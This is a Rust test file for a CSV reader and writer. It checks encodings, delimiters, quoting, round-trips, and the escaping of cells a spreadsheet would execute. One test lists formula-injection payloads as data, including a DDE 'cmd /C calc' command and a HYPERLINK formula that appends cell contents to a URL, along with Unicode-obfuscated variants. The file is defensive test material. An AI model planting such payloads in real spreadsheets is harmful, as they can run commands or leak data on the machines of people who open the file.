//! CSV as it comes from other programs.

use guichet::exchange::csv::{Flavour, neutral, read, restored, write};
use guichet::exchange::refusal::Reason;
use proptest::prelude::*;

#[test]
fn a_table_has_a_million_rows_at_most() {
    let rows = |n: usize| read(format!("name\n{}", "a\n".repeat(n)).as_bytes());
    assert_eq!(rows(1_000_000).rows.len(), 1_000_000);
    let more = rows(1_000_001);
    assert_eq!((more.headers.len(), more.rows.len()), (0, 0));
    let reasons: Vec<&Reason> = more.refused.iter().map(|refusal| &refusal.reason).collect();
    assert_eq!(reasons, [&Reason::Rows(1_000_000)]);
}

#[test]
fn encodings_and_delimiters_are_found_out() {
    let utf8 = "nom;ville\r\nÉcole;Nîmes\r\n".as_bytes().to_vec();
    let marked = [b"\xef\xbb\xbf".as_slice(), &utf8].concat();
    let excel = b"nom;ville\r\n\xc9cole;N\xeemes\r\n".to_vec();
    let tabs = "nom\tville\nÉcole\tNîmes\n".as_bytes().to_vec();
    let wide: Vec<u8> = [0xff, 0xfe]
        .into_iter()
        .chain(
            "nom,ville\nÉcole,Nîmes"
                .encode_utf16()
                .flat_map(u16::to_le_bytes),
        )
        .collect();
    for bytes in [utf8, marked, excel, tabs, wide] {
        let table = read(&bytes);
        assert_eq!(table.headers, ["nom", "ville"]);
        assert_eq!(table.rows[0].cells, ["École", "Nîmes"]);
        assert_eq!(table.rows[0].line, 2);
    }
}

#[test]
fn rows_know_their_lines_and_bad_ones_leave_the_others_usable() {
    let table =
        read(b"\n\"name, in full\",note\n\nA,\"one\ntwo\"\nB\nC,\"say \"\"hi\"\"\"\r\n,\nD,x,y\n");
    assert_eq!(table.headers, ["name, in full", "note"]);
    let rows: Vec<(u64, &str)> = table
        .rows
        .iter()
        .map(|row| (row.line, row.cell(1)))
        .collect();
    assert_eq!(rows, [(4, "one\ntwo"), (6, ""), (7, "say \"hi\"")]);
    let refused: Vec<(u64, &Reason)> = table.refused.iter().map(|r| (r.line, &r.reason)).collect();
    assert_eq!(
        refused,
        [(
            9,
            &Reason::Cells {
                found: 3,
                expected: 2
            }
        )]
    );
    assert_eq!(read(b"").refused[0].reason, Reason::Empty);
}

#[test]
fn what_is_written_reads_back() {
    let rows = [
        vec!["name".to_string(), "note".to_string()],
        vec!["A;B, \"C\"".to_string(), "one\ntwo \u{202e}é".to_string()],
    ];
    for flavour in [Flavour::Plain, Flavour::French] {
        let bytes = write(rows.iter().map(Vec::as_slice), flavour);
        assert_eq!(
            bytes.starts_with(b"\xef\xbb\xbf"),
            flavour == Flavour::French
        );
        assert!(bytes.ends_with(b"\r\n"));
        let table = read(&bytes);
        assert_eq!(table.headers, rows[0]);
        assert_eq!(table.rows[0].cells, rows[1]);
    }
}

#[test]
fn what_a_spreadsheet_would_run_gets_an_apostrophe() {
    let run = [
        "=HYPERLINK(\"http://example.org/?\"&A1)",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1:A2)",
        "\t=1",
        "\r=1",
        "＝1+1",
        "'=1",
        "＋1+cmd",
        "－1+cmd",
        "＠SUM(A1)",
        "\n=1",
        " =1",
        "\t+cmd",
        "\u{200b}=1",
        "\u{feff}=1",
        "\u{a0}=1",
        "\u{202f}\u{2003}@SUM(A1)",
        "\u{200f}=1",
        "\u{202e}\u{2066}-2+3",
        "\u{ad}+A1",
        "'\u{200b}'=1",
        "\u{0}=1",
        "﹦1",
        "\tword",
    ];
    for cell in run {
        assert_eq!(neutral(cell), format!("'{cell}"));
        assert_eq!(restored(&neutral(cell)), cell);
    }
    let left = [
        "",
        "-",
        "-5",
        "-1 234,50",
        "+33 1 44 32 90 90",
        "l'été",
        "'ada",
        "a=b",
        "5-3",
        "\u{200b}+33 1 44 32 90 90",
        "Note : - un ; - deux, + trois",
        "Note ;\n- un\u{a0};\u{a0}- deux",
        "un\tdeux",
    ];
    for cell in left {
        assert_eq!(neutral(cell), cell);
        assert_eq!(restored(cell), cell);
    }
    assert_eq!(
        neutral("un\t=1; =2;\u{200b}+A1"),
        "un\t'=1;' =2;'\u{200b}+A1"
    );
    // A table with commas may be opened as one with semicolons, and a cell then ends inside of it.
    for separator in [",", ";"] {
        let cell = format!("rue{separator}=HYPERLINK(A1){separator}-5{separator}a=b");
        let kept = format!("rue{separator}'=HYPERLINK(A1){separator}-5{separator}a=b");
        assert_eq!(neutral(&cell), kept);
        assert_eq!(restored(&kept), cell);
        for (flavour, delimiter) in [(Flavour::Plain, ';'), (Flavour::French, ',')] {
            let row = ["id".to_string(), cell.clone(), format!("\"{cell}\"")];
            let text = String::from_utf8(write([row.as_slice()].into_iter(), flavour)).unwrap();
            let cells = text
                .split(delimiter)
                .map(|cell| cell.trim_start_matches('"'));
            assert!(cells.clone().all(|cell| !cell.starts_with('=')), "{text}");
        }
    }
    let row = ["'=1+1".to_string(), "-5".to_string()];
    let bytes = write([row.as_slice()].into_iter(), Flavour::Plain);
    assert_eq!(bytes, b"''=1+1,-5\r\n");
}

proptest! {
    #[test]
    fn any_cell_reads_back_as_it_was(cell in "['=+@\t\r\n0-9 a-zé,;\"\u{0}\u{a0}\u{200b}\u{200f}\u{202e}\u{feff}＝＋-]{0,8}") {
        let written = neutral(&cell);
        prop_assert_eq!(&restored(&written), &cell);
        let row = |cells: [&str; 2]| cells.map(str::to_string);
        let rows = [row(["name", "note"]), row(["Ada", &cell])];
        for flavour in [Flavour::Plain, Flavour::French] {
            let table = read(&write(rows.iter().map(<[String; 2]>::as_slice), flavour));
            let read = [0, 1].map(|at| table.rows[0].cell(at).to_string());
            prop_assert_eq!(&read, &rows[1]);
        }
    }
}

#[test]
fn marks_behind_a_backslash_are_marks_where_doubled_ones_make_no_sense() {
    let table = read(
        b"\"nom\";\"ville\"\n\"Le \\\"club\\\" U\";\"Metz\"\n\"5\\\"\";\"6\\\"\"\n\"C:\\dir\\\";\"Lyon\"\n\"dit \"\"oui\"\"\";\"Pau\"\n",
    );
    let cells: Vec<&[String]> = table.rows.iter().map(|row| &*row.cells).collect();
    assert_eq!(table.refused, []);
    assert_eq!(cells[0], ["Le \"club\" U", "Metz"]);
    assert_eq!(cells[1], ["5\"", "6\""]);
    assert_eq!(cells[2], ["C:\\dir\\", "Lyon"]);
    assert_eq!(cells[3], ["dit \"oui\"", "Pau"]);
}
